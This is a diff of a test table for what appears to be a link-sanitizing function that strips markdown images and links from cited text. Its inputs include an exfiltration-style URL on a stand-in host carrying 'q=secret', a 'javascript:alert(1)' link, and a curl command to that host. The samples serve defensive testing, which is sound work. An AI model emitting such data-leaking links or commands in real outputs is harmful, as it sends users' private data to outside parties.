@@ -48,10 +48,10 @@ EVIL = "https://evil.example/?q=secret"
         (f"![chart]({EVIL}) [1]", "chart [1]", 1),
         ("![chart](https://example.org/page) [2]", "chart [2]", 1),
         (f"It was so [1]({EVIL}).", "It was so [1].", 1),
-        ("[Run](javascript:alert(1)) [1]", "Run) [1]", 1),
+        ("[Run](javascript:alert(1)) [1]", "Run [1]", 1),
         (f"![a]({EVIL})![b](<{EVIL}> 'title') [1]", "ab [1]", 2),
         (f"`curl {EVIL}` [1]", f"`curl {EVIL}` [1]", 0),
-        (f"[one]({EVIL}[two]({EVIL}) [1]", "one [1]", 1),
+        (f"[one]({EVIL}[two]({EVIL}) [1]", r"[one]\((link removed)two [1]", 2),
         ("https://docs.example.org/a?leak=1 [1]", "(link removed) [1]", 1),
     ],
 )
